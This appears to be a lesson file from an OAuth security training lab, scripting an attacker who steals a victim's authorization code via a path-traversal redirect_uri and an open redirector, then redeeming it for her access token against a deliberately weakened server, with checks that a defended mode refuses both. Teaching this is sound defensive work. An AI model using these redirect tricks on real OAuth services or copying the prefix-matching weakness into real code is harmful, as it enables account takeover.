import { codeIn } from '../../bike-shop.ts';
import { chain } from '../../checks/check.ts';
import type { LabHands } from '../../lab/lab.ts';
import type { BuiltInLesson } from '../../lesson.ts';
import { labShop, logInAtShop, readWithCodeOfVictim, redeemAtShop } from '../lab-shop.ts';

export { default as text } from './lesson.md';

const [shop] = labShop.clients ?? [];

/** The address that the browser opens: it resolves the dots before it connects (RFC 3986 §5.2.4). */
const traversal = ({ issuer }: LabHands) => `${issuer}/labs/shop/../evil`;
const redirector = ({ issuer }: LabHands) => `${issuer}/labs/shop/next?url=${issuer}/labs/evil`;

/** Alice opens a link of Mallory, and the log of Mallory has the address that she arrives at. */
async function open(hands: LabHands, redirect_uri: string): Promise<void> {
  const { url } = await logInAtShop(hands.alice, 'alice', { redirect_uri });
  hands.see('The address bar of Alice', url.href);
  hands.keep('code', codeIn({ url }));
  hands.keep('redirect_uri', redirect_uri);
}

const refused = { type: 'error.returned', endpoint: 'authorize', reason: 'redirect_uri_not_registered' } as const;

export const lesson: BuiltInLesson = {
  issuer: { ...labShop, clients: shop === undefined ? [] : [{ ...shop, redirect_uris: ['{{issuer}}/labs/shop'] }] },
  lab: {
    weak: { relax: ['redirect_prefix'] },
    desk: {
      label: 'Alice opens your page',
      victim: async () => undefined,
      page: '<a href="{{issuer}}/oauth2/authorize?response_type=code&client_id=lab-shop">Win a bike</a>',
    },
    steps: [
      {
        id: 'link',
        by: 'mallory',
        async run(hands) {
          hands.see('Registered', `${hands.issuer}/labs/shop`);
          hands.see('In the link of Mallory', traversal(hands));
          hands.see('The browser makes of it', new URL(traversal(hands)).href);
        },
      },
      { id: 'open', by: 'alice', run: hands => open(hands, traversal(hands)) },
      {
        id: 'redeem',
        by: 'mallory',
        async run(hands) {
          const code = hands.kept('code');
          const redirect_uri = hands.kept('redirect_uri');
          const { access_token = '', error } = await redeemAtShop(hands.mallory, code, { redirect_uri });
          hands.see('Response', error ?? `access token of Alice ${access_token.slice(0, 24)}…`);
        },
      },
      { id: 'redirector', by: 'alice', run: hands => open(hands, redirector(hands)) },
    ],
  },
  tasks: [
    {
      id: 'attack',
      checks: [
        chain(
          { type: 'lab.switched', isDefended: false },
          { type: 'code.issued', sub: 'alice', as: 'code' },
          {
            type: 'request.completed',
            endpoint: 'labs',
            path: { includes: '/labs/evil' },
            read: { parameter: 'code', is: { $: 'code.token' } },
          },
          { type: 'token.issued', tokenType: 'access', parentTokenId: { $: 'code.tokenId' } },
        ),
      ],
    },
    {
      id: 'again',
      checks: [
        chain(
          { type: 'lab.switched', isDefended: true },
          { ...refused, sent: { includes: '/labs/shop/../evil' } },
          { ...refused, sent: { includes: '/labs/shop/next?url=' } },
        ),
      ],
    },
    { id: 'goal', checks: [readWithCodeOfVictim] },
  ],
};
